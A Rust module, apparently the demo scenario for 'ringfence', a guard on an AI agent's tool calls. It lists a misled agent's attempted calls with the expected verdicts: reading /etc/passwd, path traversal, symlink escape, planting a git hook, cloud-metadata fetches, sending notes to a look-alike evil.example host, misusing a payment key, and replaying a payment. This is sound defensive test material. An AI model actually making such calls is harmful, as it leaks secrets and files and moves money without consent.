//! What the demo plays: a workspace, and the calls of an agent that somebody has talked into mischief.

use std::io;
use std::path::{Path, PathBuf};

use ringfence::Call;
use serde_json::{Value, json};

/// The tool that pays.
const PAY: &str = "pay";

/// How a call is made.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(super) enum How {
    /// By the agent.
    Plain,
    /// By the agent, once Maria has agreed.
    Agreed,
    /// By another process, which dies in the middle of it.
    Dying,
}

/// One call and what should come of it.
pub(super) struct Step {
    pub(super) what: &'static str,
    pub(super) tool: &'static str,
    pub(super) call: Call,
    pub(super) how: How,
    /// The verdict.
    pub(super) expected: &'static str,
}

/// Returns the calls in order.
pub(super) fn steps(workspace: &Path) -> Vec<Step> {
    let step = |what, tool, arguments: Value, expected| Step {
        what,
        tool,
        call: Call::new(tool, arguments),
        how: How::Plain,
        expected,
    };
    let report = workspace.join("out/report.md");
    let written = |content: &str| json!({"path": report, "content": content});
    let read = |path: &str| json!({"path": path});
    let hook = json!({"path": "out/.git/hooks/pre-commit", "content": "sh"});
    let url = |url: &str| json!({"url": url});
    let paid = |what, call, how, expected| Step { what, tool: PAY, call, how, expected };
    vec![
        step("read its notes", "read_file", read("notes.txt"), "allowed"),
        step("read /etc/passwd", "read_file", read("/etc/passwd"), "refused"),
        step("climb out with ../..", "read_file", read("out/../../../etc/passwd"), "refused"),
        step("read through a link that leads out", "read_file", read("innocent.txt"), "refused"),
        step("write a report", "write_report", written("# Report\n"), "allowed"),
        step("overwrite its notes", "write_report", json!({"path": "notes.txt", "content": ""}), "refused"),
        step("plant a git hook", "write_report", hook, "refused"),
        step("send a number as a path", "read_file", json!({"path": 7}), "refused"),
        step("write the report again", "write_report", written("# Again\n"), "allowed"),
        step("write it a third time", "write_report", written("# And again\n"), "refused"),
        step("fetch the cloud's metadata", "fetch", url("http://169.254.169.254/latest/"), "refused"),
        step("the same, spelled 0xa9fea9fe", "fetch", url("http://0xa9fea9fe/latest/"), "refused"),
        step(
            "send notes to evil.example",
            "fetch",
            url("https://api.github.com.evil.example/?notes"),
            "refused",
        ),
        step("use the weather key", "weather", json!({"secret": "WEATHER_API_KEY"}), "allowed"),
        step("use the payment key instead", "weather", json!({"secret": "STRIPE_KEY"}), "refused"),
        step("let a program count its words", "count", read("notes.txt"), "allowed"),
        step("let it count /etc/passwd", "count", read("/etc/passwd"), "refused"),
        step("call a tool with a poisoned text", "helper", json!({}), "refused"),
        step("crash a tool", "crash", json!({}), "failed"),
        paid("pay an invoice", pay(17), How::Plain, "refused"),
        paid("pay it, after Maria agreed", pay(17), How::Agreed, "allowed"),
        paid("pay it once more", pay(17), How::Plain, "allowed"),
        paid("pay another, and die on the way", pay(18), How::Dying, "died"),
        paid("pay that one again", pay(18), How::Agreed, "refused"),
    ]
}

/// The payment of an invoice.
pub(super) fn pay(invoice: u64) -> Call {
    Call::new(PAY, json!({"to": "ACME", "invoice": invoice, "cents": 4200}))
        .idempotency_key(format!("invoice-{invoice}"))
}

/// A temporary folder with a workspace, a store and a ledger, removed with the demo.
pub(super) struct Scene {
    root: PathBuf,
    is_ours: bool,
}

impl Scene {
    /// Makes the folder.
    pub(super) fn create(policy: &str) -> io::Result<Self> {
        let base = std::fs::canonicalize(std::env::temp_dir())?;
        let root = base.join(format!("ringfence-demo-{}", std::process::id()));
        // Fails when somebody made the directory before, rather than using what they put there.
        std::fs::create_dir(&root)?;
        let scene = Self { root, is_ours: true };
        let work = scene.workspace();
        std::fs::create_dir_all(work.join("out/.git/hooks"))?;
        std::fs::create_dir(scene.root.join("store"))?;
        std::fs::write(work.join("notes.txt"), "The workshop is on Thursday.\n")?;
        std::fs::write(scene.policy(), policy)?;
        std::os::unix::fs::symlink("/etc/hostname", work.join("innocent.txt"))?;
        Ok(scene)
    }

    /// Uses the folder of the process that has started us.
    pub(super) fn of(root: PathBuf) -> Self {
        Self { root, is_ours: false }
    }

    pub(super) fn root(&self) -> &Path {
        &self.root
    }

    pub(super) fn workspace(&self) -> PathBuf {
        self.root.join("work")
    }

    pub(super) fn policy(&self) -> PathBuf {
        self.root.join("work/ringfence.toml")
    }

    /// The store, which no tool can reach.
    pub(super) fn store(&self) -> PathBuf {
        self.root.join("store/demo.db")
    }

    /// What was really paid.
    pub(super) fn ledger(&self) -> PathBuf {
        self.root.join("store/ledger.txt")
    }
}

impl Drop for Scene {
    fn drop(&mut self) {
        if self.is_ours {
            let _removed = std::fs::remove_dir_all(&self.root);
        }
    }
}
